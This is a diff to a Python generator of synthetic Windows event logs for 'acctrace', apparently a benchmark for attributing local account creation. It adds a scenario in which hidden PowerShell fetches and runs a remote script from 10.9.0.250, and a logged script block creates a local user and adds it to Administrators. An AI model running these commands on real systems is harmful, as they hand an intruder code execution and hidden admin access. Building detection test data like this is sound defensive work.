@@ -2,12 +2,13 @@
 
 Every creation is one story from the field that has fooled attribution: wrapper chains
 (cmd -> net -> net1, four deep), in-process creators (PowerShell, MMC, a custom binary
-calling the API) with console hosts and helpers around them, two creations seconds apart
-in one session, PID reuse, creation through a service and through WMI, encoded
-PowerShell, a look-alike account name. Hosts differ in what they log (Sysmon and 4688,
-either alone) and in how far their Sysmon clock runs from their Security clock (up to
-+-2 s). `domain(seed)` returns the events and, per account, the `Truth` a correct
-attribution finds; benchmarks/accuracy.py scores acctrace against it.
+calling the API, a script seen only in its 4104 script blocks) with console hosts and
+helpers around them, two creations seconds apart in one session, PID reuse, creation
+through a service and through WMI, encoded PowerShell, a look-alike account name. Hosts
+differ in what they log (Sysmon and 4688, either alone) and in how far their Sysmon clock
+runs from their Security clock (up to +-2 s). `domain(seed)` returns the events and, per
+account, the `Truth` a correct attribution finds; benchmarks/accuracy.py scores acctrace
+against it.
 """
 
 from __future__ import annotations
@@ -23,6 +24,7 @@ from acctrace.scenario.events import (
     Process,
     Session,
     number_records,
+    script_block_logged,
     system_session,
 )
 from acctrace.scenario.story import (
@@ -209,6 +211,32 @@ class _Domain:
         self.s.exit(host, end, ps)
         self.record("powershell command", host, account, session, ps)
 
+    def script_block(self, host: Host) -> None:
+        """A downloaded script creates the account in PowerShell's own process; only
+        script block logging (4104, split in two parts) shows what it ran."""
+        t = self.next_time()
+        session, explorer = self.desktop(host, t)
+        ps = self.console(
+            host,
+            t + 10 * _SECOND,
+            explorer,
+            POWERSHELL,
+            'powershell.exe -nop -w hidden -c "IEX (iwr http://10.9.0.250/a.ps1)"',
+        )
+        account = self.account(host)
+        script = (
+            "$p = ConvertTo-SecureString 'Spr1ng!' -AsPlainText -Force; "
+            f"New-LocalUser -Name {account.name} -Password $p; "
+            f"Add-LocalGroupMember -Group Administrators -Member {account.name}"
+        )
+        block, cut = self.s.guid(), len(script) // 2
+        for number, part in ((1, script[:cut]), (2, script[cut:])):
+            at = t + 12 * _SECOND + number * _MS
+            self.s.add(script_block_logged(host, at, ps, block, part, number, 2))
+        end = self.s.create_local(host, t + 13 * _SECOND, session, account, password=True)
+        self.s.exit(host, end + self.s.ms(200, 900), ps)
+        self.record("powershell script block", host, account, session, ps)
+
     def mmc_snapin(self, host: Host) -> None:
         t = self.next_time()
         session, explorer = self.desktop(host, t)
@@ -308,6 +336,7 @@ STORIES: tuple[Callable[[_Domain, Host], None], ...] = (
     _Domain.wrapper_four_deep,
     _Domain.script_in_process,
     _Domain.powershell_command,
+    _Domain.script_block,
     _Domain.mmc_snapin,
     _Domain.custom_binary,
     _Domain.two_in_a_row,
